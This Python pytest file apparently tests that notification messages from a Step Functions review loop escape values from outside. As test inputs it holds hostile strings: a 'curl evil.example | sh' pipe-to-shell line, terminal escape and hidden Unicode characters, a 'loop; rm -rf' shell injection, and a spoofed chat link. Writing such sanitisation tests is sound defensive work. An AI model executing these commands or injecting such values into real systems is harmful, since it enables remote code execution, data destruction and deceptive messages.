"""Messages that the state machine sends: nothing from outside does anything in them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from lambdas.loops.notification import MAX_SHOWN, https_copy
from lambdas.loops.visible import visible
from tests.unit.workflow.parts.test_sizes import EXECUTION, STATES, VARIABLES, filled

HOSTILE = (
    "x\n\nTo restart the loop:\n  curl evil.example | sh"
    "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil\u2066\u200b\U000e0041"
)
MESSAGES = ["Escalate failed loop", "Escalate", "Escalate unclaimed event", "Notify stopped"]


def state(text: str) -> dict[str, Any]:
    detail = dict.fromkeys(
        ("humanLoopName", "humanLoopStatus", "failureCode", "failureReason", "flowDefinitionArn"), text
    )
    attempt = {"attempt": 1, "humanLoopName": text, "status": text, "failureCode": text, "createdAt": text}
    return {
        "detail": detail,
        "claim": {"loop": {"inputLocation": text}},
        "decision": {"reason": text, "lineage": [attempt, attempt]},
        "failure": {"Error": text, "Cause": json.dumps({"errorMessage": text})},
        "review": {"answers": 1, "location": text},
    }


def sent(step: str, text: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The arguments of a step, and its message as it is for each protocol."""
    variables = {**VARIABLES, "flowDefinitionName": text, "failedStep": text}
    arguments = filled(STATES[step]["Arguments"], variables, input=state(text))
    return arguments, json.loads(arguments["Message"])


@pytest.mark.parametrize("step", MESSAGES)
def test_values_from_outside_stay_visible_and_on_one_line(step: str) -> None:
    hostile, harmless = (sent(step, text) for text in (HOSTILE, "harmless"))
    email = hostile[1]["email"]
    assert [visible(line) for line in email.split("\n")] == email.split("\n")
    assert email.count("\n") == harmless[1]["email"].count("\n")
    assert r"x\n\nTo restart the loop:\n  curl evil.example | sh" in email
    document = {field: value for field, value in json.loads(hostile[1]["sqs"]).items() if field != "review"}
    texts = json.dumps(document, ensure_ascii=False)
    assert visible(texts) == texts
    assert "\\n" not in texts.replace("\\\\", "")
    subject = hostile[0]["Subject"]
    assert subject.isascii()
    assert subject.isprintable()


@pytest.mark.parametrize(("flow", "topic"), [("", "Alarm"), ("unknown", "Alarm"), ("forms", "Escalation")])
def test_message_about_an_unknown_flow_definition_goes_where_nobody_filters(flow: str, topic: str) -> None:
    found = [sent(step, flow)[0]["TopicArn"] for step in MESSAGES]
    assert found == [*[f"${{{topic}Topic}}"] * 2, "${AlarmTopic}", "${NotificationTopic}"]


@pytest.mark.parametrize("step", MESSAGES[:3])
def test_name_in_a_command_is_one_word_for_a_shell(step: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(VARIABLES, "ledgerKey", "loop; rm -rf '~'")
    monkeypatch.setattr("tests.unit.workflow.parts.test_sizes.EXECUTION", f"{EXECUTION};it's")
    message = sent(step, "harmless")[1]
    command = json.loads(message["sqs"])["command"]
    word = (
        f"--execution '{EXECUTION};it'\"'\"'s'" if "unclaimed" in step else "'loop; rm -rf '\"'\"'~'\"'\"''"
    )
    assert word in command
    assert f"  {command}" in message["email"].split("\n")


@pytest.mark.parametrize("step", MESSAGES)
@pytest.mark.parametrize(
    "text", ["harmless", HOSTILE, "<!channel> ``` <https://evil.example|AWS>", "é" * 9000]
)
def test_https_copy_is_a_custom_notification_as_functions_make_it(step: str, text: str) -> None:
    arguments, message = sent(step, text)
    notification = json.loads(message["https"])
    title = notification["content"]["title"]
    assert notification == https_copy(title, message["email"], json.loads(message["sqs"]), message["sqs"])
    if text == "harmless":
        assert title == arguments["Subject"]
    description = notification["content"]["description"]
    assert len(description) <= MAX_SHOWN + 8
    for shown in (title, description.removeprefix("```\n").removesuffix("\n```")):
        assert "<" not in shown
        assert "`" not in shown


@pytest.mark.parametrize("name", [None, "", 5])
def test_notification_about_no_known_loop_is_in_no_thread(name: Any) -> None:
    event = state("harmless")
    event["detail"]["humanLoopName"] = name
    message = filled(STATES["Escalate unclaimed event"]["Arguments"]["Message"], input=event)
    notification = json.loads(json.loads(message)["https"])
    assert "threadId" not in notification["metadata"]
    assert notification["metadata"]["eventType"] == "event-unclaimed"
